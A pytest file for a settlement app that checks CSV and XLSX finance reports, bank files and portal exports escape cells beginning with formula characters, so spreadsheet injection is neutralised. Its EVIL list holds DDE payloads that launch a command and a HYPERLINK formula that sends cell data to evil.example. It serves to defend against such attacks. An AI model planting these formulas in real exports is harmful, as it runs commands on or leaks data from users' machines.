"""Downloads never carry a live formula: text that starts with = + - @ (or tab, CR) is escaped in
CSV with a leading apostrophe and written as a string, not a formula, in XLSX. Plain numbers such
as -1.00 stay numbers. Covers the finance reports (settlement.reports) and the portal's CSV."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from merchants.models import Merchant, MerchantKind
from settlement import reports
from tests.settlement.conftest import after_midnight, till, today, travel  # noqa: F401
from tests.terminals.conftest import admin_user, funded_card, make_terminal, merchants, rates  # noqa: F401

from .conftest import login

pytestmark = pytest.mark.django_db

EVIL = ["=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "\t=1+1", "\r=1+1"]
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")


def csv_cells(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_csv_safe(data: bytes):
    for cell in csv_cells(data):
        if cell.startswith(DANGEROUS_START):
            assert reports._NUMBER.match(cell), f"live formula in CSV: {cell!r}"


def assert_xlsx_safe(data: bytes):
    wb = load_workbook(io.BytesIO(data))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"formula in XLSX at {cell.coordinate}: {cell.value!r}"


def table(values) -> reports.Table:
    return reports.Table(title=values[0], headers=["code", "name", "amount"],
                         rows=[["M1", v, -100] for v in values], money={2}, notes=list(values))


@pytest.mark.parametrize("value", EVIL)
def test_csv_renderer_escapes_formula_text_and_keeps_negative_money_a_number(value):
    data = reports.table_csv(table([value]))
    assert_csv_safe(data)
    cells = csv_cells(data)
    assert "'" + value in cells  # escaped, not dropped
    assert "-1.00" in cells  # a refund is still a number


@pytest.mark.parametrize("value", EVIL)
def test_xlsx_renderer_writes_formula_text_as_a_string(value):
    """Regression: openpyxl turns any str starting with '=' into a formula cell."""
    data = reports.table_xlsx(table([value]))
    assert_xlsx_safe(data)
    ws = load_workbook(io.BytesIO(data)).active
    # The text as typed (XML keeps no bare CR), shown as text.
    assert ws["B3"].value == value.replace("\r", "\n") and ws["B3"].data_type == "s"
    assert ws["C3"].value == -1 and ws["C3"].data_type == "n"


@pytest.fixture
def evil_statement(till, funded_card, today, travel, merchants, admin_user):  # noqa: F811
    """A computed statement of a retail merchant whose name is a formula, and the period."""
    from settlement import services

    Merchant.objects.filter(pk=merchants[MerchantKind.RETAIL].pk).update(name=EVIL[0])
    retail = till(MerchantKind.RETAIL)
    card = retail.card(funded_card(20000))
    retail.send([retail.purchase(card, 4567)])
    travel(after_midnight(today))
    services.day_close(day=today)
    services.settlement_compute(period_start=today, period_end=today)
    return today


@pytest.mark.parametrize("report", ["settlement", "payouts", "day-close"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_finance_downloads_carry_no_formula(world, evil_statement, report, fmt):
    day = evil_statement
    query = f"day={day}" if report == "day-close" else f"start={day}&end={day}"
    response = login(world["root"]).get(f"/finance/reports/{report}.{fmt}?{query}")
    assert response.status_code == 200
    data = b"".join(response.streaming_content) if response.streaming else response.content
    (assert_csv_safe if fmt == "csv" else assert_xlsx_safe)(data)
    if report != "payouts":  # the payout list holds approved statements only
        assert EVIL[0] in (csv_cells(data) and data.decode("utf-8-sig") if fmt == "csv" else
                           str([c.value for r in load_workbook(io.BytesIO(data)).active.iter_rows() for c in r]))


def test_graduation_bank_file_and_unpaid_list_escape_names(world):
    """The bank transfer file goes to the bank's system, often opened in Excel first; names and
    card numbers are text from an import or a form (test data written directly)."""
    from settlement.models import ClosureLine, GraduationClosure

    closure = GraduationClosure.objects.create(cohort=EVIL[2], reason="test", actor=world["root"])
    holder = world["holder"]
    holder.name = EVIL[1]
    holder.save(update_fields=["name"])
    ClosureLine.objects.create(closure=closure, holder=holder, bank_card_no="=1+1", amount=100,
                               status=ClosureLine.Status.PAID)
    ClosureLine.objects.create(closure=closure, holder=holder, amount=5, status=ClosureLine.Status.FAILED,
                               detail=EVIL[3])
    assert_csv_safe(reports.closure_bank_file_csv(closure=closure))
    unpaid = reports.closure_unpaid_table(closure=closure)
    assert_csv_safe(reports.table_csv(unpaid))
    assert_xlsx_safe(reports.table_xlsx(unpaid))


def test_portal_csv_escapes_text_cells(world):
    import datetime as dt

    from django.utils import timezone

    from tests.fronts.conftest import make_record

    make_record(world["terminal"], world["merchant"], 1, 500, timezone.now() - dt.timedelta(minutes=5),
                problems=[EVIL[0]])
    response = login(world["merchant_user"]).get("/merchant/records.csv")
    assert response.status_code == 200
    assert_csv_safe(response.content)
